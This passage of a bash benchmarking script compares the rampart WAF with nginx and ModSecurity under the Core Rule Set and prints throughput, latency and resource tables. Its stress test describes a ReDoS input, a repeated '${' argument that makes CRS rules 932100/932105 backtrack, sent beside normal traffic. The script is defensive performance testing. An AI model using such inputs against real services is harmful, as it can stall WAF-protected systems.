  log "$(printf 'freeze %-16s heavy %-5s clean %6s req/s  p50 %7s ms  p99 %8s ms  max %8s ms%s' \
    "$t" "$v" "$(wrk_field "$out" rps)" "$(wrk_field "$out" p50)" "$(wrk_field "$out" p99)" \
    "$(wrk_field "$out" max)" \
    "$([[ -n "$hpid" ]] && echo "  heavy: $(wrk_field "$hout" requests) sent")")"
  wait_idle "$t"
}

if ((FREEZE_DURATION > 0)); then
  for t in "${WAF_TARGETS[@]}"; do
    for kind in body redos; do
      ALONE[$t/$kind]="$(time_alone "$t" "$kind")"
      wait_idle "$t"
      log "heavy $kind alone on $t: ${ALONE[$t/$kind]} (seconds, status)"
    done
  done
  log "no freeze: $FREEZE_ROUNDS rounds of wrk -t1 -c$FREEZE_CLEAN" \
    "-d$((FREEZE_DURATION + CLEAN_TAIL))s over the corpus (${FREEZE_PACE} ms pauses)," \
    "without and with one heavy connection (${HEAVY_KINDS[*]})"
  for ((r = 0; r < FREEZE_ROUNDS; r++)); do
    for ((i = 0; i < ${#WAF_TARGETS[@]}; i++)); do
      t="${WAF_TARGETS[$(((i + r) % ${#WAF_TARGETS[@]}))]}"
      for v in none "${HEAVY_KINDS[@]}"; do measure_freeze "$t" "$v"; done
    done
  done
  for t in "${WAF_TARGETS[@]}"; do RSS[freeze/$t]=$(peak_rss_kib "${PID[$t]}"); done
fi

# ---------------------------------------------------------------------------------------------
# Report

maxof() { tr ' ' '\n' <<<"$1" | grep -v '^$' | sort -g | tail -1; }

echo
echo "rampart WAF bench, $(date -u '+%Y-%m-%d %H:%M UTC'): $(nproc) CPUs" \
  "($(awk -F': ' '/model name/ { print $2; exit }' /proc/cpuinfo)), kernel $(uname -r)," \
  "load average before the run $LOAD1"
echo "$("$NGINX" -v 2>&1 | sed 's/.*: //'), ModSecurity-nginx" \
  "$(dpkg-query -W -f='${Version}' libnginx-mod-http-modsecurity 2>/dev/null || echo '?')," \
  "libmodsecurity $(dpkg-query -W -f='${Version}' libmodsecurity3 2>/dev/null || echo '?')," \
  "CRS $(dpkg-query -W -f='${Version}' modsecurity-crs 2>/dev/null || echo '?')," \
  "$("$RAMPART_BIN" version 2>/dev/null | head -1 || echo rampart)," \
  "$("$WRK" -v 2>&1 | awk 'NR == 1 { print $1, $2 }')"
echo "corpus: $CORPUS_SIZE requests from ${CORPUS#"$SRC_DIR"/}," \
  "$CORPUS_NOBODY ($(percent "$CORPUS_NOBODY" "$CORPUS_SIZE") %) without a body;" \
  "WAFs: block mode, CRS (rampart: profile crs), paranoia ${LEVELS[*]}, inbound threshold 5," \
  "body limit $BODY_LIMIT bytes; pinning: ${TASKSET:-none}"

if [[ "$VERIFY" == 1 ]]; then
  echo
  echo "Verification: every corpus request once, in order, on one keep-alive connection"
  printf '| %-22s | %8s | %5s | %14s | %17s | %9s |\n' target requests "200" "other statuses" \
    "with rule matches" "fast path"
  printf '|%s|%s|%s|%s|%s|%s|\n' ------------------------ ---------: ------: ---------------: \
    ------------------: ----------:
  for t in "${TARGETS[@]}"; do
    fast=n/a
    if ((V_FAST[$t] + V_SLOW[$t] > 0)); then fast=${V_FAST[$t]}; fi
    printf '| %-22s | %8s | %5s | %14s | %17s | %9s |\n' "$t" $((V_OK[$t] + V_OTHER[$t])) \
      "${V_OK[$t]}" "${V_OTHER[$t]}" \
      "$([[ -n "${WAFLOG[$t]}" ]] && echo "${V_MATCHED[$t]}" || echo n/a)" "$fast"
  done
  echo "fast path: requests of this replay that skipped libmodsecurity (rampart's /metrics)."
  if [[ -s "$TMP/verify-diff.txt" ]]; then
    echo "Requests refused or matched by a WAF, or answered differently (status[matched rules]):"
    sed 's/^/  /' "$TMP/verify-diff.txt"
  else
    echo "Every request: 200 from every target, no rule matched in either WAF."
  fi
fi

if ((ROUNDS > 0)); then
  echo
  echo "Throughput: $ROUNDS rounds of wrk -t$THREADS -c$CONNECTIONS -d${DURATION}s over the" \
    "corpus (${WARMUP}s warm-up each), medians"
  printf '| %-22s | %7s | %13s | %7s | %7s | %11s | %7s | %8s | %9s | %12s | %6s |\n' target \
    "req/s" "req/s range" "p50 ms" "p99 ms" "CPU us/req" non-2xx "sock err" "WAF recs" \
    "peak RSS MiB" "fast %"
  printf '|%s|%s|%s|%s|%s|%s|%s|%s|%s|%s|%s|\n' ------------------------ --------: \
    --------------: --------: --------: ------------: --------: ---------: ----------: \
    -------------: -------:
  for t in "${TARGETS[@]}"; do
    recs=n/a fast=n/a
    if [[ -n "${WAFLOG[$t]}" ]]; then recs="${WAFLINES[$t]}"; fi
    if ((${FAST[$t]:-0} + ${SLOW[$t]:-0} > 0)); then
      fast=$(percent "${FAST[$t]}" $((FAST[$t] + SLOW[$t])))
    fi
    printf '| %-22s | %7s | %13s | %7s | %7s | %11s | %7s | %8s | %9s | %12s | %6s |\n' "$t" \
      "$(median "${RPS[$t]}" %.0f)" "$(spread "${RPS[$t]}")" "$(median "${P50[$t]}")" \
      "$(median "${P99[$t]}")" "$(median "${CPU[$t]}" %.1f)" "$(total "${NON2XX[$t]}")" \
      "$(total "${SOCKERR[$t]}")" "$recs" "$(mib "${RSS[load/$t]:-0}")" "$fast"
  done
  pairs=()
  for l in "${LEVELS[@]}"; do
    pairs+=("rampart-waf-pl$l/nginx-modsec-pl$l" "rampart-waf-pl$l/rampart"
      "rampart-waf-nofast-pl$l/nginx-modsec-pl$l" "rampart-waf-pl$l/rampart-waf-nofast-pl$l"
      "nginx-modsec-pl$l/nginx")
  done
  pairs+=(rampart/nginx)
  for pair in "${pairs[@]}"; do
    me="${pair%/*}" peer="${pair#*/}"
    printf '  %-45s throughput %6sx   p99 %6sx   CPU per request %6sx\n' "$pair" \
      "$(ratio "$(median "${RPS[$me]}")" "$(median "${RPS[$peer]}")")" \
      "$(ratio "$(median "${P99[$me]}")" "$(median "${P99[$peer]}")")" \
      "$(ratio "$(median "${CPU[$me]}")" "$(median "${CPU[$peer]}")")"
  done
  echo "Ratios: throughput above 1, p99 and CPU below 1 favour the first. Per level: rampart"
  echo "with the fast path against nginx + ModSecurity and against plain rampart (what the WAF"
  echo "costs), rampart without the fast path against nginx + ModSecurity, what the fast path"
  echo "gains, and what ModSecurity costs nginx. CPU us/req: the target's user+system time (all"
  echo "threads; nginx master and workers) over the requests wrk completed. non-2xx should be 0:"
  echo "the corpus is benign (at paranoia 2 and above CRS may refuse some of it; the"
  echo "verification lists which). WAF recs: rampart attack-log records / nginx ModSecurity"
  echo "match lines written during the runs (0 when nothing matched). Peak RSS: VmHWM after the"
  echo "throughput rounds (nginx: master + workers summed). fast %: of the requests of the"
  echo "measured runs (not the warm-ups), the share that skipped libmodsecurity, from the"
  echo "difference of rampart_waf_fast_path_total{decision=fast|slow} in /metrics before and"
  echo "after each run; the corpus has $(percent "$CORPUS_TAKEABLE" "$CORPUS_SIZE") % of requests" \
    "without a body or with a form or JSON body (the most the fast path can take)."
fi

if ((FREEZE_DURATION > 0)); then
  echo
  echo "No freeze, paranoia ${LEVELS[0]} (rampart with its fast path, the default):" \
    "clean = wrk -t1 -c$FREEZE_CLEAN -d$((FREEZE_DURATION + CLEAN_TAIL))s over the" \
    "corpus, each connection pausing ${FREEZE_PACE} ms"
  echo "between requests, alone (heavy none) and beside one connection sending heavy payloads" \
    "back to back for the"
  echo "first ${FREEZE_DURATION}s (wrk -t1 -c1); $FREEZE_ROUNDS rounds, medians (max: the largest)."
  echo "Heavy payloads:"
  echo "  body  = urlencoded, $HEAVY_BODY_BYTES bytes in $HEAVY_BODY_ARGS attack-looking" \
    "arguments (CRS refuses it: 403)"
  echo "  redos = one argument of $REDOS_REPEAT \"\${\", $HEAVY_REDOS_BYTES bytes urlencoded" \
    "(CRS 932100/932105 backtrack; no rule matches: 200)"
  echo "  mix   = body and redos in turn"
fi
if ((FREEZE_DURATION > 0 && FREEZE_ROUNDS > 0)); then
  printf '| %-16s | %-6s | %11s | %7s | %8s | %8s | %12s | %14s | %13s |\n' target heavy \
    "clean req/s" "p50 ms" "p99 ms" "max ms" "clean errors" "heavy done" "heavy non-2xx"
  printf '|%s|%s|%s|%s|%s|%s|%s|%s|%s|\n' ------------------ -------- ------------: --------: \
    ---------: ---------: -------------: ---------------: --------------:
  for t in "${WAF_TARGETS[@]}"; do
    for v in none "${HEAVY_KINDS[@]}"; do
      k="$t/$v"
      hreq=- hnon2xx=-
      if [[ "$v" != none ]]; then
        hreq=$(total "${F_HREQ[$k]}")
        hnon2xx=$(total "${F_HNON2XX[$k]}")
      fi
      printf '| %-16s | %-6s | %11s | %7s | %8s | %8s | %12s | %14s | %13s |\n' "$t" "$v" \
        "$(median "${F_RPS[$k]}" %.0f)" "$(median "${F_P50[$k]}")" "$(median "${F_P99[$k]}")" \
        "$(maxof "${F_MAX[$k]}")" "$(total "${F_ERR[$k]}")" "$hreq" "$hnon2xx"
    done
  done
  for v in none "${HEAVY_KINDS[@]}"; do
    me=${WAF_TARGETS[0]}/$v peer=${WAF_TARGETS[1]}/$v
    printf '  %-40s clean throughput %5sx   p99 %5sx   max %5sx\n' \
      "${WAF_TARGETS[0]}/${WAF_TARGETS[1]}, $v" \
      "$(ratio "$(median "${F_RPS[$me]}")" "$(median "${F_RPS[$peer]}")")" \
      "$(ratio "$(median "${F_P99[$me]}")" "$(median "${F_P99[$peer]}")")" \
      "$(ratio "$(maxof "${F_MAX[$me]}")" "$(maxof "${F_MAX[$peer]}")")"
  done
fi
if ((FREEZE_DURATION > 0)); then
  echo "One heavy request alone on an idle target (seconds, status):"
  for t in "${WAF_TARGETS[@]}"; do
    echo "  $t: body ${ALONE[$t/body]}, redos ${ALONE[$t/redos]}"
  done
  echo "Peak RSS after this section: ${WAF_TARGETS[0]}" \
    "$(mib "${RSS[freeze/${WAF_TARGETS[0]}]:-0}") MiB, ${WAF_TARGETS[1]}" \
    "$(mib "${RSS[freeze/${WAF_TARGETS[1]}]:-0}") MiB"
fi

# ---------------------------------------------------------------------------------------------
# Summary: the issue's targets, as ratios of this run's medians (never absolute timings).

met() {  # value target
  awk -v v="$1" -v t="$2" 'BEGIN { print (v != "n/a" && v + 0 >= t) ? "met" : "NOT met" }'
}

if ((ROUNDS > 0)); then
  echo
  echo "Summary (medians of this run; targets from the issue):"
  for l in "${LEVELS[@]}"; do
    waf="rampart-waf-pl$l"
    vs_modsec=$(awk -v a="$(median "${RPS[$waf]}")" -v b="$(median "${RPS[nginx-modsec-pl$l]}")" \
      'BEGIN { if (b + 0 == 0) print "n/a"; else printf "%.1f", a / b }')
    vs_plain=$(awk -v a="$(median "${RPS[$waf]}")" -v b="$(median "${RPS[rampart]}")" \
      'BEGIN { if (b + 0 == 0) print "n/a"; else printf "%.0f", 100 * a / b }')
    fraction=$(percent "${FAST[$waf]:-0}" $((${FAST[$waf]:-0} + ${SLOW[$waf]:-0})))
    echo "  paranoia $l:"
    echo "    fast path vs nginx+ModSecurity: ${vs_modsec}× (target ≥ 10×):" \
      "$(met "$vs_modsec" 10)"
    echo "    WAF-on vs plain rampart: ${vs_plain} % (target ≥ 50 %): $(met "$vs_plain" 50)"
    echo "    fast-path fraction: ${fraction} % of $((${FAST[$waf]:-0} + ${SLOW[$waf]:-0}))" \
      "requests ($(percent "$CORPUS_TAKEABLE" "$CORPUS_SIZE") % of the corpus has no body or a form or JSON body)"
    # What header and cookie values may match is remembered per worker: the throughput runs
    # replay the corpus over and over, so the single in-order pass is the fairer figure.
    if ((${REM[$waf]:-0} + ${JUD[$waf]:-0} > 0)); then
      echo "    values remembered (headers, cookies, method, ...):" \
        "$(percent "${REM[$waf]}" $((REM[$waf] + JUD[$waf]))) % in the throughput runs (the corpus" \
        "replayed: more than live traffic gives)$( ((${V_REM[$waf]:-0} + ${V_JUD[$waf]:-0} > 0)) &&
          echo ", $(percent "${V_REM[$waf]}" $((V_REM[$waf] + V_JUD[$waf]))) % in one in-order pass" \
            "over the corpus")"
    fi
  done
fi
